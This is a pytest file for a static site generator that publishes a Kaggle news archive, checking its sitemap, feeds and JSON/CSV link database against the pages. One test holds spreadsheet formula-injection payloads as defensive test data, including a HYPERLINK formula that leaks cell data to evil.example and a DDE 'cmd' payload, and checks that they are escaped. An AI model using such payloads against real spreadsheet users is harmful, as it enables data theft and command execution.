"""What the book publishes besides pages: the sitemap and the link database (links.json,
links.csv), checked against the pages; the real book's feeds, sitemap and links agree."""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET

from conftest import ATOM, ROOTS, build_srcdir, feed_entries, meta, soup_of

SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"


def test_sitemap_lists_every_page(published_basic):
    root = ET.parse(published_basic.outdir / "sitemap.xml").getroot()
    locs = {u.find(f"{SITEMAP}loc").text for u in root.findall(f"{SITEMAP}url")}
    base = "https://archive.example.org/wkn/"
    for page in (
        "index.html",
        "issues/0001.html",
        "years/2021.html",
        "sites/index.html",
        "sites/example.com.html",
        "tags/index.html",
    ):
        assert base + page in locs
    html_pages = {
        p.relative_to(published_basic.outdir).as_posix()
        for p in published_basic.outdir.rglob("*.html")
        if "_static" not in p.parts
    }
    assert {base + p for p in html_pages - {"search.html", "genindex.html"}} <= locs


def cards_in_pages(outdir) -> list[tuple[int, str, str, str]]:
    found = []
    for page in sorted(outdir.glob("issues/*.html")):
        number = int(page.stem)
        for card in soup_of(page).select("article.wkn-card"):
            link = card.select_one(".wkn-card-title a")
            found.append((number, link["href"], link.get_text(), card["id"]))
    return found


def test_link_database_agrees_with_the_pages(published_basic):
    data = json.loads((published_basic.outdir / "links.json").read_text(encoding="utf-8"))
    assert set(data["fields"]) == set(data["links"][0])
    from_json = [
        (r["issue"], r["url"], r["title"], r["permalink"].split("#")[1]) for r in data["links"]
    ]
    assert from_json == cards_in_pages(published_basic.outdir)
    assert (published_basic.outdir / "links.csv").read_bytes().startswith(b"\xef\xbb\xbfissue,")
    with (published_basic.outdir / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [
        (int(r["issue"]), r["url"], r["title"], r["permalink"].split("#")[1]) for r in rows
    ] == from_json
    first = rows[0]
    assert first["commentary"] == "Commentary of the first card with a link. Second paragraph."
    assert first["date"] == "2020-12-25" and first["permalink"] == "issues/0001.html#link-1"


def test_link_database_files_as_written(published_basic):
    """links.json: the tags' labels for the finder, one-space indents, Japanese unescaped,
    a final line end; links.csv: lines end with LF, a card's tags separated by spaces."""
    text = (published_basic.outdir / "links.json").read_text(encoding="utf-8")
    data = json.loads(text)
    assert text == json.dumps(data, ensure_ascii=False, indent=1) + "\n"
    assert data["tags"]["nlp"] == {"ja": "自然言語処理", "en": "NLP"}
    assert sorted(data["tags"]) == ["cpp", "nlp", "paper"]
    assert data["competitions"] == {}
    assert data["links"][0]["tags"] == ["nlp", "paper"]
    raw = (published_basic.outdir / "links.csv").read_bytes().decode("utf-8-sig")
    assert "\r" not in raw and raw.endswith("\n")
    assert raw.splitlines()[1].startswith(
        "1,2020-12-25,https://example.com/articles/one?id=7&lang=ja,First article,"
        "example.com,nlp paper,"
    )


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "site": "@SUM(1+1)",
    "excerpt": "+cmd|' /C calc'!A0",
    "commentary": "-2+3",
}


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    import shutil

    srcdir = tmp_path / "book"
    shutil.copytree(ROOTS / "test-basic", srcdir)
    page = srcdir / "issues" / "0003.md"
    card = (
        f"\n:::{{link}} https://example.com/formula\n:title: {json.dumps(FORMULAS['title'])}\n"
        f":site: {json.dumps(FORMULAS['site'])}\n:excerpt: {json.dumps(FORMULAS['excerpt'])}\n"
        f"\n{FORMULAS['commentary']}\n:::\n"
    )
    page.write_text(page.read_text(encoding="utf-8") + card, encoding="utf-8")
    outdir = build_srcdir(srcdir).outdir
    with (outdir / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = [r for r in csv.DictReader(handle) if r["url"] == "https://example.com/formula"]
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field
    # Every other cell is as it was, and links.json keeps the values as written.
    assert row["issue"] == "3" and row["permalink"].startswith("issues/0003.html#")
    (entry,) = [
        r
        for r in json.loads((outdir / "links.json").read_text(encoding="utf-8"))["links"]
        if r["url"] == "https://example.com/formula"
    ]
    assert {field: entry[field] for field in FORMULAS} == FORMULAS


def test_real_book_feeds_sitemap_and_link_database_agree_with_its_pages(real_book):
    html = real_book.html
    _, entries = feed_entries(html / "feed.xml")
    assert len(entries) == 20
    assert entries[0].find(f"{ATOM}title").text == "Weekly Kaggle News #159"
    issue_links = {e.find(f"{ATOM}link").get("href").rsplit("/", 2)[-2:][1] for e in entries}
    assert "0159.html" in issue_links and "0140.html" in issue_links
    tag_feeds = sorted((html / "tags").glob("*.xml"))
    tag_pages = [p for p in (html / "tags").glob("*.html") if p.name != "index.html"]
    assert len(tag_feeds) == len(tag_pages) > 30
    for feed in tag_feeds:
        _, tag_entries = feed_entries(feed)
        for entry in tag_entries:
            assert entry.find(f"{ATOM}updated").text.endswith("+09:00")
    locs = {
        u.find(f"{SITEMAP}loc").text
        for u in ET.parse(html / "sitemap.xml").getroot().findall(f"{SITEMAP}url")
    }
    assert len([loc for loc in locs if "/issues/" in loc]) == 159
    data = json.loads((html / "links.json").read_text(encoding="utf-8"))
    from_json = [
        (r["issue"], r["url"], r["title"], r["permalink"].split("#")[1]) for r in data["links"]
    ]
    assert len(from_json) == 1198
    assert sorted(from_json) == sorted(cards_in_pages(html))
    with (html / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert sum(1 for _ in csv.DictReader(handle)) == 1198
    page = real_book.page("issues/0100.html")
    assert meta(page, "og:title") == "Weekly Kaggle News #100"
    assert meta(page, "og:description").startswith("Kaggle「Jigsaw Rate Severity")
    assert meta(page, "og:image").startswith("https://")
